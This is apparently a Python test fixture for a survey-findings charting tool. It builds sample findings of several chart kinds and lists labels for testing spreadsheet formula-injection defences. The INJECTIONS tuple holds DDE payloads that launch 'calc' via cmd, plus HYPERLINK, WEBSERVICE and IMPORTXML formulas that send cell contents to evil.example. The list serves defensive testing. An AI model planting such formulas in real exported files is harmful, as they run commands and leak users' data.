"""One finding of every kind of chart, and texts meant to be run by a spreadsheet program."""

from analysis.findings import TITLES
from tests.figures import counted, finding, published

# OWASP's and the house's own list of beginnings that a spreadsheet program takes for a formula, and what attackers do with them.
INJECTIONS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","Click")', '=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"x")',
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "'=1+1", '"=1+1"', "' \"=1+1", "\x00=1+1", "\x1f=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    "|calc", "%0A=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "\n\r\t =1+1",
)  # fmt: skip
HARMLESS = ("Focus group", "1+1", "a=b", "Yes – definitely", "£5", "#REF!", "TRUE", "(=1)", "Redcar & Cleveland", "ffôn", "", "5")


def made(kind, *labels):
    """A finding of one kind whose categories have these labels."""
    if kind == "ranked":
        shown = published("activities_held", ("method",), *({"method": label, **counted(i + 3, base=i + 3)} for i, label in enumerate(labels)))
    elif kind == "over time":
        rows = [{"year": label, **counted(i + 30, 40, 38), "upper": i + 35, "lower": i + 30} for i, label in enumerate(labels)]
        shown = published("people_engaged", ("year",), *rows)
    elif kind == "waves":
        rows = [{"wave": label, "numerator": 100, "denominator": 200 + 5 * i, "lower": 0.43, "upper": 0.57} for i, label in enumerate(labels)]
        shown = published("public_confidence", ("wave",), *rows)
    elif kind == "stacked":
        rows = [
            {"category": label, "answer": a, "numerator": n, "denominator": 45}
            for label in labels
            for a, n in (("Agree", 22), ("Disagree", 18), ("Neither", 5))
        ]
        shown = published("answers", ("category", "answer"), *rows)
    elif kind == "money":
        shown = published("cost_per_person", ("year",), *({"year": label, "numerator": 2210.5, "denominator": 400, "base": 12} for label in labels))
    else:
        rows = [
            {"category": label, "who": who, "numerator": n, "denominator": 200}
            for label in labels
            for who, n in (("Respondents", 60), ("Residents", 80))
        ]
        shown = published("answers", ("category", "who"), *rows)
    return finding(shown, kind, titles=TITLES, notes=("A note.",))


KINDS = ("ranked", "over time", "waves", "stacked", "gaps", "money")
